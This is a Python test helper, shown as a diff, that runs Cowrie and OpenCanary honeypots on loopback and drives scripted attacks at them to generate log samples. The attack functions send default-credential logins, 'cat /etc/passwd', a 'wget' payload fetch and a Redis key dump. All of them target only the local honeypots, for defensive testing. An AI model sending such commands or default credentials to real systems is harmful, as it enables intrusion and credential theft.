@@ -1,0 +1,211 @@
+# SPDX-License-Identifier: MIT
+"""Runs the real Cowrie and OpenCanary on loopback and attacks them with real clients; they write the logs we read.
+
+Used by `test_real_honeypots.py`, and by hand to renew the samples in `data/`: `python honeypots.py DIRECTORY`.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import ftplib
+import json
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+COWRIE = "cowrie==3.1.4"
+OPENCANARY = "opencanary==0.9.10"
+
+
+def environment(requirement: str) -> Path:
+    """Return a virtual environment of its own with `requirement` from PyPI; made once, readable for everyone."""
+    place = Path(tempfile.gettempdir()) / f"decnet-oracle-{os.getuid()}" / requirement.replace("==", "-")
+    if not (place / "installed").exists():
+        uv = shutil.which("uv") or shutil.which("uv", path=str(Path.cwd() / ".uv" / "bin"))
+        python = str(place / "bin" / "python")
+        if uv:
+            subprocess.run([uv, "venv", "-q", "--clear", "--python", sys.executable, str(place)], check=True)
+            subprocess.run([uv, "pip", "install", "-q", "--python", python, requirement], check=True)
+        else:
+            subprocess.run([sys.executable, "-m", "venv", "--clear", str(place)], check=True)
+            subprocess.run([python, "-m", "pip", "install", "-q", requirement], check=True)
+        (place / "installed").touch()
+    return place
+
+
+def free_port() -> int:
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        return int(server.getsockname()[1])
+
+
+def wait_for_port(port: int, process: subprocess.Popen[bytes], seconds: float = 60) -> None:
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        if process.poll() is not None:
+            raise RuntimeError(f"the honeypot ended with {process.returncode}")
+        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1):
+            return
+        time.sleep(0.1)
+    raise TimeoutError(f"nothing listens on port {port}")
+
+
+@contextlib.contextmanager
+def running(command: list[str], directory: Path, ports: list[int]) -> Iterator[None]:
+    """Run a honeypot in `directory`; as root in a user namespace of its own, because Cowrie refuses to be root."""
+    if os.getuid() == 0:
+        command = ["unshare", "--user", *command]
+    with (directory / "output.txt").open("wb") as output:
+        process = subprocess.Popen(
+            command, cwd=directory, stdout=output, stderr=subprocess.STDOUT,
+            env={**os.environ, "HOME": str(directory)}, start_new_session=True,
+        )  # fmt: skip
+        try:
+            for port in ports:
+                wait_for_port(port, process)
+            yield
+        finally:
+            os.killpg(process.pid, signal.SIGTERM)
+            process.wait(30)
+
+
+@contextlib.contextmanager
+def cowrie(directory: Path) -> Iterator[tuple[int, int, Path]]:
+    """Run Cowrie; gives its SSH port, its Telnet port and its JSON log."""
+    place = environment(COWRIE)
+    ssh, telnet = free_port(), free_port()
+    for name in ("etc", "var/log/cowrie", "var/lib/cowrie/tty", "var/lib/cowrie/downloads"):
+        (directory / name).mkdir(parents=True)
+    (directory / "etc" / "cowrie.cfg").write_text(
+        f"[honeypot]\nhostname = web01\n"
+        f"[ssh]\nlisten_endpoints = tcp:{ssh}:interface=127.0.0.1\n"
+        f"[telnet]\nenabled = true\nlisten_endpoints = tcp:{telnet}:interface=127.0.0.1\n"
+    )
+    command = [str(place / "bin" / "twistd"), "--nodaemon", "--pidfile=", "cowrie"]
+    with running(command, directory, [ssh, telnet]):
+        yield ssh, telnet, directory / "var" / "log" / "cowrie" / "cowrie.json"
+
+
+@contextlib.contextmanager
+def opencanary(directory: Path) -> Iterator[tuple[dict[str, int], Path]]:
+    """Run OpenCanary; gives the port of each service and its log."""
+    place = environment(OPENCANARY)
+    ports = {name: free_port() for name in ("ftp", "http", "ssh", "telnet", "mysql", "redis", "httpproxy", "git")}
+    log = directory / "opencanary.log"
+    settings: dict[str, object] = {
+        "device.node_id": "canary-7",
+        "device.listen_addr": "127.0.0.1",
+        "http.skin": "nasLogin",
+        "http.log_unimplemented_method_requests": True,
+        "httpproxy.skin": "squid",
+        "ssh.version": "SSH-2.0-OpenSSH_9.2p1",
+        "telnet.log_tcp_connection": True,
+        "mysql.log_connection_made": True,
+        "logger": {
+            "class": "PyLogger",
+            "kwargs": {"handlers": {"file": {"class": "logging.FileHandler", "filename": str(log)}}},
+        },
+    }
+    for name, port in ports.items():
+        settings |= {f"{name}.enabled": True, f"{name}.port": port}
+    (directory / ".opencanary.conf").write_text(json.dumps(settings))
+    command = [str(place / "bin" / "twistd"), "-n", "--pidfile=", "-y", str(place / "bin" / "opencanary.tac")]
+    with running(command, directory, list(ports.values())):
+        yield ports, log
+
+
+def ssh(port: int, user: str, password: str, command: str, directory: Path) -> None:
+    """Log in with the real OpenSSH client and run `command`; a refused log-in is fine."""
+    asker = directory / "askpass"
+    asker.write_text(f"#!/bin/sh\necho '{password}'\n")
+    asker.chmod(0o700)
+    subprocess.run(
+        ["ssh", "-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+         "-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-p", str(port),
+         f"{user}@127.0.0.1", command],
+        env={**os.environ, "SSH_ASKPASS": str(asker), "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": "none"},
+        stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False,
+    )  # fmt: skip
+
+
+def converse(port: int, *turns: tuple[bytes, bytes]) -> None:
+    """Connect, and for each turn wait for its first text, then send its second."""
+    with socket.create_connection(("127.0.0.1", port), 20) as peer:
+        peer.settimeout(20)
+        for expected, answer in turns:
+            heard = b""
+            while expected not in heard:
+                more = peer.recv(4096)
+                if not more:
+                    return
+                heard += more
+            peer.sendall(answer)
+        with contextlib.suppress(OSError):
+            peer.settimeout(2)
+            while peer.recv(4096):
+                pass
+
+
+def attack_cowrie(ssh_port: int, telnet_port: int, directory: Path) -> None:
+    """A failed log-in, a session with a dropped file, and a Telnet session."""
+    ssh(ssh_port, "root", "root", "id", directory)  # Cowrie's default user database refuses root/root
+    ssh(
+        ssh_port, "root", "hunter2",
+        "uname -a; echo '#!/bin/sh' > /tmp/x.sh; cat /etc/passwd; nosuchcommand --help; exit", directory,
+    )  # fmt: skip
+    converse(
+        telnet_port,
+        (b"login: ", b"root\r\n"),
+        (b"assword: ", b"xc3511\r\n"),
+        (b"# ", b"wget http://127.0.0.1:9/payload\r\n"),
+        (b"# ", b"echo '\x1b[2J\xc3\xa9'\r\n"),
+        (b"# ", b"exit\r\n"),
+    )
+
+
+def attack_opencanary(ports: dict[str, int], directory: Path) -> None:
+    """One touch of every service that is on."""
+    with contextlib.suppress(ftplib.Error, OSError, EOFError), ftplib.FTP() as ftp:
+        ftp.connect("127.0.0.1", ports["ftp"], 20)
+        ftp.login("anonymous", "mozilla@example.com")
+    url = f"http://127.0.0.1:{ports['http']}/index.html"
+    quietly = ["curl", "-s", "-m", "20", "-o", "/dev/null", "-A", "Mozilla/5.0 zgrab/0.x"]
+    subprocess.run([*quietly, url], check=False)
+    subprocess.run([*quietly, "-d", "username=admin&password=pass%00word", url], check=False)
+    subprocess.run([*quietly, "-X", "DELETE", url], check=False)
+    subprocess.run(
+        [*quietly, "-x", f"http://bob:secret@127.0.0.1:{ports['httpproxy']}", "http://127.0.0.1/"], check=False
+    )
+    ssh(ports["ssh"], "pi", "raspberry", "id", directory)
+    converse(ports["telnet"], (b"Username: ", b"root\r\n"), (b"Password: ", b"xc3511\r\n"))
+    converse(ports["redis"], (b"", b"*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n"), (b"-", b"*1\r\n$4\r\nQUIT\r\n"))
+    clone = b"git-upload-pack /secret.git\0host=127.0.0.1\0"
+    converse(ports["git"], (b"", b"%04x" % (len(clone) + 4) + clone))
+    login = b"\x85\xa6\xff\x01\0\0\0\x01\x21" + bytes(23) + b"root\0\x14" + bytes(range(20)) + b"mysql\0"
+    converse(ports["mysql"], (b"mysql_native_password", len(login).to_bytes(3, "little") + b"\x01" + login))
+
+
+def record(directory: Path) -> None:
+    """Write a fresh sample of both logs into `directory`."""
+    for name in ("cowrie", "opencanary"):
+        with tempfile.TemporaryDirectory() as work:
+            place = Path(work)
+            home = place / name
+            home.mkdir()
+            if name == "cowrie":
+                with cowrie(home) as (ssh_port, telnet_port, log):
+                    attack_cowrie(ssh_port, telnet_port, place)
+            else:
+                with opencanary(home) as (ports, log):
+                    attack_opencanary(ports, place)
+            shutil.copyfile(log, directory / f"{name}.json")
+
+
+if __name__ == "__main__":
+    record(Path(sys.argv[1]))
